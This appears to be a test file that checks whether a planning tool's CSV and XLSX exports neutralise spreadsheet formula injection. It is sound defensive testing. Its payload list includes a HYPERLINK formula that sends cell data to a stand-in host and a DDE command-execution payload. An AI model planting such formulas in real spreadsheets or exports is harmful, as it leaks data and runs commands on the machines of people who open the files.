import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, it } from "node:test";
import { parse } from "csv-parse/sync";
import { strFromU8, unzipSync } from "fflate";
import { KUMAMOTO, MODEL_REPORT_PATH } from "../../test/factories/model-report.ts";
import { LIBREOFFICE_MISSING, sheetsByLibreOffice } from "../../test/libreoffice.ts";
import { recordSkip } from "../../test/skip-log.ts";
import { forEachStore, freshStore } from "../../test/store-targets.ts";
import type { PlanTree } from "../domain/plan-tree.ts";
import { importPlanCsv } from "../import/plan-csv/plan-csv-importer.ts";
import { workbookSheets } from "../import/plan-xlsx/plan-workbook-reader.ts";
import { importReportFile } from "../import/report-importer.ts";
import { loadPlanTree } from "../store/queries/plan-tree-query.ts";
import type { Store } from "../store/store.ts";
import { toCsv } from "./csv-table.ts";
import { measuresCsv } from "./measures-csv.ts";
import { planXlsx } from "./plan-xlsx.ts";
import { roadmapCsv } from "./roadmap-csv.ts";
import { quoteSpreadsheetText, unquoteSpreadsheetText } from "./spreadsheet-text.ts";

/** Text a spreadsheet would run, and text that merely starts with a quote, as people write it. */
const PAYLOADS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,2)",
  "\t=1+1",
  '=HYPERLINK("https://evil.example/?leak="&A1,"詳細")',
  "=cmd|' /C calc'!A0",
  "'担当課が引用符で始めた取組",
  "''引用符二つ",
];

if (LIBREOFFICE_MISSING)
  recordSkip(
    "formula injection read back by LibreOffice (spreadsheet-text.test.ts)",
    LIBREOFFICE_MISSING,
  );

describe("text for a spreadsheet cell", () => {
  it("gets a ' in front when it starts with =, +, -, @, a tab, a carriage return or '", () => {
    for (const text of [...PAYLOADS, "\r=1+1"]) {
      assert.equal(quoteSpreadsheetText(text), `'${text}`, JSON.stringify(text));
      assert.equal(unquoteSpreadsheetText(quoteSpreadsheetText(text)), text);
    }
  });

  it("is left alone otherwise, a ⇒, a — or a formula sign later in the text included", () => {
    for (const text of ["保育所の整備", "⇒", "—", "1=1", " =1+1", "2013-09-30", "", "＝1+1"])
      assert.equal(quoteSpreadsheetText(text), text);
  });

  it("is quoted in CSV tables while numbers, negative ones too, are written as they are", () => {
    const csv = toCsv(
      ["年度", "値", "取組"],
      [
        [2013, -5, "=1+1"],
        [2014, 0, "-5"],
      ],
      { bom: false },
    );
    assert.equal(csv, "年度,値,取組\r\n2013,-5,'=1+1\r\n2014,0,'-5\r\n");
  });
});

/**
 * The model report with one payload in the title, narrative and first roadmap cell of each of the
 * first original measures with progress (a re-listing has none of its own), and in item 1's title.
 */
async function planWithPayloads(store: Store): Promise<{ tree: PlanTree; codes: string[] }> {
  const { planSlug } = await importReportFile(store, MODEL_REPORT_PATH, { organization: KUMAMOTO });
  const measures = await store.db
    .selectFrom("measure")
    .innerJoin("progress", "progress.measure_id", "measure.id")
    .select(["measure.id", "measure.code"])
    .where("measure.relisting_of_measure_id", "is", null)
    .where("progress.narrative", "!=", "")
    .orderBy("measure.code")
    .limit(PAYLOADS.length)
    .execute();
  for (const [i, { id }] of measures.entries()) {
    const text = PAYLOADS[i] ?? "";
    await store.db.updateTable("measure").set({ title: text }).where("id", "=", id).execute();
    await store.db
      .updateTable("progress")
      // The payload replaces the narrative, so the status suggested from the old one goes too.
      .set({ narrative: text, status_code: null, status_suggested: 0, status_words: null })
      .where("measure_id", "=", id)
      .execute();
    const { fiscal_year } = await store.db
      .selectFrom("roadmap_entry")
      .select("fiscal_year")
      .where("measure_id", "=", id)
      .orderBy("fiscal_year")
      .executeTakeFirstOrThrow();
    // A cell as the readers store it: whitespace folded, the activity its own text.
    const printed = text.replace(/\s+/gu, " ").trim();
    const cell = { text: printed, continued: 0, none: 0, addition: printed };
    for (const table of ["roadmap_entry", "roadmap_revision"] as const)
      await store.db
        .updateTable(table)
        .set(cell)
        .where("measure_id", "=", id)
        .where("fiscal_year", "=", fiscal_year)
        .execute();
  }
  await store.db.updateTable("item").set({ title: "=SUM(1,2)" }).where("number", "=", 1).execute();
  const tree = (await loadPlanTree(store.db, planSlug)) as PlanTree;
  return { tree, codes: measures.map((m) => m.code) };
}

const rowsOf = (csv: string) =>
  parse(csv, { bom: true, columns: true }) as Array<Record<string, string>>;

forEachStore("formula injection in the CSV exports", (dialect) => {
  it("writes every text cell a spreadsheet would run with a ' in front, and numbers without", async () => {
    const store = await freshStore(dialect);
    try {
      const { tree, codes } = await planWithPayloads(store);
      const measures = rowsOf(measuresCsv(tree));
      const roadmap = rowsOf(roadmapCsv(tree));
      for (const [i, payload] of PAYLOADS.entries()) {
        const code = codes[i];
        const row = measures.find((r) => r.取組ID === code);
        assert.equal(row?.取組, `'${payload}`, `${code} 取組`);
        assert.equal(row?.進捗状況, `'${payload}`, `${code} 進捗状況`);
        const first = roadmap.find((r) => r.取組ID === code);
        assert.equal(first?.計画, `'${payload.trim()}`, `${code} 計画`);
      }
      assert.ok(measures.filter((r) => r.項目番号 === "1").every((r) => r.項目 === "'=SUM(1,2)"));
      for (const cell of [
        ...measures.flatMap((r) => [r.柱番号, r.区分番号, r.項目番号, r.全国地方公共団体コード]),
        ...roadmap.map((r) => r.年度),
      ])
        assert.ok(!cell?.startsWith("'"), `a number is not quoted: ${cell}`);
    } finally {
      await store.dispose();
    }
  });

  it("keeps the round trip: export → import → export gives the same bytes and the exact texts, quotes of their own included", async () => {
    const first = await freshStore(dialect);
    const second = await freshStore(dialect);
    try {
      const { tree, codes } = await planWithPayloads(first);
      const [measures, roadmap] = [measuresCsv(tree), roadmapCsv(tree)];
      const bytes = (text: string) => new TextEncoder().encode(text);
      const { planSlug } = await importPlanCsv(
        second,
        { bytes: bytes(measures), file: "measures.csv" },
        { bytes: bytes(roadmap), file: "roadmap.csv" },
      );
      const again = (await loadPlanTree(second.db, planSlug)) as PlanTree;
      assert.equal(measuresCsv(again), measures);
      assert.equal(roadmapCsv(again), roadmap);
      const stored = await second.db
        .selectFrom("measure")
        .innerJoin("progress", "progress.measure_id", "measure.id")
        .select(["measure.code", "measure.title", "progress.narrative"])
        .where("measure.code", "in", codes)
        .orderBy("measure.code")
        .execute();
      assert.deepEqual(
        stored.map((r) => [r.title, r.narrative]),
        PAYLOADS.map((p) => [p, p]),
      );
    } finally {
      await first.dispose();
      await second.dispose();
    }
  });
});

describe("formula injection in the spreadsheets", () => {
  it("writes the XLSX payloads as string cells with no formula, read back as the same text", async () => {
    const store = await freshStore("sqlite");
    try {
      const { tree, codes } = await planWithPayloads(store);
      const xlsx = await planXlsx(tree);
      const parts = unzipSync(new Uint8Array(xlsx));
      const sheetXml = Object.entries(parts)
        .filter(([name]) => name.startsWith("xl/worksheets/"))
        .map(([, data]) => strFromU8(data));
      assert.ok(sheetXml.length >= 3);
      for (const xml of sheetXml) assert.doesNotMatch(xml, /<f[\s>]/u, "no formula element");
      // Every cell with a value is a shared or inline string, or a plain number.
      for (const xml of sheetXml)
        for (const [cell] of xml.matchAll(/<c\b[^>]*>/gu))
          assert.match(cell, /\bt="(s|inlineStr)"|^<c\b(?![^>]*\bt=)/u, cell);
      const measures = (await workbookSheets(xlsx, "plan.xlsx")).get("取組") ?? [];
      const [header = [], ...rows] = measures;
      for (const [i, payload] of PAYLOADS.entries()) {
        const row = rows.find((r) => r[0] === codes[i]) ?? [];
        assert.equal(row[header.indexOf("取組")], payload.trim());
        assert.equal(row[header.indexOf("【記入】進捗状況")], payload.trim());
      }
    } finally {
      await store.dispose();
    }
  });

  it("is shown as text by LibreOffice in the CSV (which evaluates an unquoted formula) and the XLSX", {
    skip: LIBREOFFICE_MISSING,
  }, async () => {
    const store = await freshStore("sqlite");
    const dir = mkdtempSync(join(tmpdir(), "shinchoku-formula-"));
    try {
      const { tree, codes } = await planWithPayloads(store);
      // First, that this LibreOffice does run a formula in a CSV as we open it: else the check proves nothing.
      writeFileSync(join(dir, "control.csv"), "a,b\r\n=1+1,=SUM(2;3)\r\n");
      assert.deepEqual(
        sheetsByLibreOffice(join(dir, "control.csv"), dir, ["control"]).get("control"),
        [
          ["a", "b"],
          ["2", "5"],
        ],
      );

      const csv = measuresCsv(tree);
      writeFileSync(join(dir, "measures.csv"), csv);
      const shown =
        sheetsByLibreOffice(join(dir, "measures.csv"), dir, ["measures"]).get("measures") ?? [];
      const written = parse(csv, { bom: true }) as string[][];
      assert.equal(shown.length, written.length);
      // Every cell shows as written, quote and all: nothing was calculated.
      assert.deepEqual(shown, written);

      writeFileSync(join(dir, "plan.xlsx"), await planXlsx(tree));
      const sheet = sheetsByLibreOffice(join(dir, "plan.xlsx"), dir, ["取組"]).get("取組") ?? [];
      const [header = [], ...rows] = sheet;
      for (const [i, payload] of PAYLOADS.entries()) {
        const row = rows.find((r) => r[0] === codes[i]);
        assert.equal(row?.[header.indexOf("取組")], payload, `XLSX 取組 ${codes[i]}`);
        assert.equal(row?.[header.indexOf("【記入】進捗状況")], payload, `XLSX ${codes[i]}`);
      }
    } finally {
      await store.dispose();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
